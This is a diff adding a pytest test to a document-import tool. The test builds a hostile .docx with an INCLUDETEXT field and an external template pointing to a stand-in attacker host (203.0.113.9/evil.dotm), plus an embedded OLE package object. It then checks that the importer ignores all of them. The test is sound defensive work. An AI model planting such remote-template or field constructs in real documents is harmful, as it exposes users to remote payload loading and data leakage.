@@ -384,3 +384,40 @@ def test_next_year_carries_a_national_docx_into_a_workbook_that_checks_as_an_unf
         ("NAT017", f"indicators[{i}].actual") for i in range(len(last.indicators))}
     done = run_cli("new", "2023.xlsm", "--from", src.name, "--next-year", cwd=tmp_path)
     assert done.returncode == 2 and ".xlsx" in done.stderr and not (tmp_path / "2023.xlsm").exists()
+
+
+def test_fields_and_embedded_objects_in_a_national_docx_are_never_followed(tmp_path):
+    """A value cell holding an INCLUDETEXT field and an embedded OLE object (with its part),
+    the document with an external template: the import reads the typed text only."""
+    from tests.badfiles import rewrite_zip
+
+    base = write_path(tmp_path / "base.docx")
+    name = example().project_name.encode()
+    field = (b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
+             b'"http://203.0.113.9/x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+             b'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
+             b'ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r>')
+    rels = (b'<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
+            b'Target="embeddings/oleObject1.bin"/>'
+            b'<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+            b'Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>')
+
+    def change(part, data):
+        if part == "word/document.xml":
+            at = data.index(name)
+            end = data.index(b"</w:r>", at) + len(b"</w:r>")
+            return data[:end] + field + data[end:]
+        if part == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", rels)
+        return data
+
+    hostile = rewrite_zip(base, tmp_path / "hostile.docx", change,
+                          add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ" * 200})
+    import zipfile
+
+    with zipfile.ZipFile(hostile) as z:
+        assert b"INCLUDETEXT" in z.read("word/document.xml") and b"OLEObject" in z.read("word/document.xml")
+    result = import_file(hostile)
+    assert codes(result) == []
+    assert comparable(result.form) == comparable(example())
+    assert not any("203.0.113.9" in item.text or "INCLUDETEXT" in item.text for item in result.record.read)
